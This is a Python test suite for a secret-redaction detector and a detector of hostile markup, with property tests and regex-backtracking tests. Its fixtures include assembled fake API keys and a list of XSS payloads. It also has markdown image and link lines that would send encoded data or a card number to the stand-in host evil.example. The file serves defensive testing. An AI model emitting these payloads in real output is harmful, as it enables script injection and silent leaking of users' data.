"""Secrets in a text, and text that does more than it shows: both are found, and everyday words are not."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Callable
from functools import partial

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apps.gates.detectors import credentials, markup
from apps.gates.detectors.credentials import detect_secrets
from apps.gates.detectors.findings import Detection
from apps.gates.detectors.markup import detect_markup
from tests.gates.lines import lines_run
from tests.gates.test_phrases import turning_back

# Drawn here and put together here, so that no finished key stands in the source.
LOT = "q7Zp2Rk9Vx4Ty1Wm8Bn3Lc6Hd5Jf0Gs2Aa"
HEX = "7f0c2b1e5a4d4c3b9e8f10293847566a"
JWT = ".".join(
    base64.urlsafe_b64encode(json.dumps(part).encode()).decode().strip("=") for part in ({"alg": "HS256"}, {"a": 1})
)
SECRETS = [
    "AKIA" + "Q7ZP2RK9VX4TY1WM",
    "ghp_" + LOT,
    "sk-ant-" + LOT,
    "sk_live_" + LOT,
    "xoxb-" + "123456789012-" + LOT[:24],
    "AIza" + LOT + "1",
    "glpat-" + LOT[:20],
    "npm_" + LOT + "11",
    "SG." + LOT[:22] + "." + LOT,
    "SK-".lower() + "proj-" + LOT,
    JWT + "." + LOT,
    "-----BEGIN RSA PRIVATE KEY-----\n" + LOT * 3 + "\n-----END RSA PRIVATE KEY-----",
    "-----BEGIN PRIVATE KEY-----\n" + LOT,
    "https://hooks.slack.com/" + "services/T012/B345/" + LOT[:24],
    "ATATT3" + LOT * 4,
    "dapi" + HEX,
    "pat-" + f"na1-{HEX[:8]}-{HEX[:4]}-{HEX[4:8]}-{HEX[8:12]}-{HEX[:12]}",
    HEX + "-us12",
    f"{HEX}-{HEX[:8]}-{HEX[8:16]}",
    "oy2" + (LOT * 2).lower()[:43],
]
ALONE = ["secret_" + LOT, "vendor." + LOT[:20] + "." + LOT[10:30], LOT]
ASSIGNED = [
    (f"api_key = '{LOT}'", LOT),
    (f'{{"client_secret": "{LOT}"}}', LOT),
    (f"export SESSION_TOKEN={LOT}", LOT),
    (f"the access key is {LOT}", LOT),
    ("password: Tr0ub4dor&3", "Tr0ub4dor&3"),
    ("postgres://silas:hunter22@db.example.org/x", "hunter22"),
    (f"Authorization: Bearer {LOT}", LOT),
    ("here it is: password=hunter22horse!", "hunter22horse!"),
    (f"connection string: AccountKey={LOT}", LOT),
    (f"host=db; it is: api_key={LOT}", LOT),
    (f"secret=\u200b{LOT}".replace("\u200b", ""), LOT),
]
NO_SECRETS = [
    "I forgot my password and the token page is broken",
    "password: incorrect",
    "The key is under the mat.",
    "order W2378156 for sku-1234567890",
    "Password: ********",
    "https://shop.example.org/items/1234567890",
    "a task-force of skilled people, sk-2",
    "0123456789abcdef0123456789abcdef",
    "gb82west12345698765432 and 1Z999AA10123456784",
    "order 7f0c2b1e-5a4d-4c3b-9e8f-102938475665",
    "note: monkey=bananas and keyboard: qwertz-layout",
    "as follows: token=expired, password: incorrect",
    "see https://shop.example.org/items/aB3dE5fG7hJ9kL1mN3pQ5rS7",
    "screenshot_of_the_broken_lamp_number_20240503.png",
    "",
]


@pytest.mark.parametrize("secret", SECRETS, ids=lambda secret: secret[:12])
def test_secret_is_found_and_taken_out(secret: str) -> None:
    found = detect_secrets(f"here: {secret} ok")
    assert found.score >= 0.9 and found.redacted is not None and LOT[:10] not in found.redacted.replace("\n", "")
    assert secret[-10:] not in found.redacted


@pytest.mark.parametrize("run", ALONE)
def test_run_drawn_by_lot_is_taken_out_without_a_name(run: str) -> None:
    assert detect_secrets(f"here: {run} ok").redacted == "here: [SECRET] ok"


@pytest.mark.parametrize(("text", "secret"), ASSIGNED)
def test_value_of_a_secret_name_is_found_and_taken_out(text: str, secret: str) -> None:
    found = detect_secrets(text)
    assert found.score >= 0.5 and found.redacted == text.replace(secret, "[SECRET]")


@pytest.mark.parametrize("text", NO_SECRETS)
def test_words_about_secrets_are_none(text: str) -> None:
    assert detect_secrets(text).spans == ()


RUNS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=https://evil.example/a.png>",
    "<svg/onload=alert(1)>",
    "<iframe src='//evil.example'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=java&#115;cript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](java%73cript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "javascript:alert(document.cookie)",
    "<style>@import 'https://evil.example'</style>",
    "<details ontoggle=alert(1) open>",
    "![x](https://evil.example/p.png?d=c2VjcmV0IHRoaW5ncw)",
    "![x][r]\n\n[r]: https://evil.example/p.png?d=c2VjcmV0IHRoaW5ncw",
    "![x](//evil.example/p?d=conversation)",
    "![x](https://c2VjcmV0LXRoaW5ncy1zYWlk.evil.example/p.png)",
    "![](https://allowed.example.evil.example/x?q=1234567890)",
    "![](https://allowed.example@evil.example/x?q=1234567890)",
    "[click](https://evil.example/?q=the+customers+card+number+is+4111111111111111)",
    "<!-- hidden -->",
    "<img src=https://evil.example/x",
]
SHOWN = [
    "See [our terms](https://allowed.example/terms?version=2024-05-16-long-name-of-it).",
    "![logo](https://cdn.allowed.example/logo.png)",
    "[home](/account/orders)",
    "Is 3 < 5 and 7 > 6? a<b, x <- y, I <3 you",
    "Write to [us](mailto:help@allowed.example).",
    "The data: see below. File: report. Profile: blue.",
    "Prices in [brackets] (and more)",
    "",
]


@pytest.mark.parametrize("text", RUNS)
def test_text_that_does_more_than_it_shows_is_found(text: str) -> None:
    assert detect_markup(text, allowed_hosts=["allowed.example"]).score >= 0.5


@pytest.mark.parametrize("text", SHOWN)
def test_text_that_only_shows_is_left_alone(text: str) -> None:
    assert detect_markup(text, allowed_hosts=["allowed.example"]).score == 0


def test_plain_link_to_a_strange_host_is_only_a_hint() -> None:
    assert 0 < detect_markup("https://other.example/page").score < 0.5


@pytest.mark.parametrize("carried", ["page", f"?q={LOT}", f"#{LOT * 2}", LOT])
def test_link_is_judged_alike_plain_and_behind_words(carried: str) -> None:
    address = f"https://other.example/{carried}"
    plain, behind_words = detect_markup(f"See {address}"), detect_markup(f"See [here]({address})")
    assert plain.score == behind_words.score > 0 and (plain.score >= 0.5) == (carried != "page")


def test_image_of_a_strange_host_is_taken_out() -> None:
    found = detect_markup("Done! ![ok](https://evil.example/?q=secret-words)")
    assert found.redacted == "Done! [IMAGE]"


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="<>[]()!:/.=&#;aAsk-_ \n\"'x1", max_size=150))
def test_any_text_is_read_by_both(text: str) -> None:
    for found in (detect_secrets(text), detect_markup(text)):
        assert 0 <= found.score <= 1 and all(0 <= span.start < span.end <= len(text) for span in found.spans)


HOSTILE = ["<", "<a ", "<a a=", "![", "[x](", "](", "[a]: b\n", "data:", "javascript:", "http://a ", "&#106;", "eyJ"]
HOSTILE += [
    "-----BEGIN PRIVATE KEY-----",
    "key=",
    "secret_",
    "sk-",
    "a.",
    "://",
    "bearer ",
    "<!--",
    "xoxb-1",
    "aA1.",
    "aA1",
    "https://hooks.slack.com/services/",
    "password: x1y2z3 ",
]


@pytest.mark.parametrize("piece", HOSTILE)
@pytest.mark.parametrize("detect", [detect_secrets, detect_markup])
def test_work_grows_with_the_text_and_no_faster(detect: Callable[[str], Detection], piece: str) -> None:
    one, two = (lines_run(partial(detect, piece * (size // len(piece)))) for size in (1024, 2048))
    assert two <= 2.5 * one + 2_000


PATTERNS = [
    value for module in (credentials, markup) for value in vars(module).values() if isinstance(value, re.Pattern)
]


@pytest.mark.parametrize("pattern", PATTERNS, ids=lambda pattern: pattern.pattern[:30])
def test_pattern_never_turns_back(pattern: re.Pattern[str]) -> None:
    assert turning_back(pattern) == []
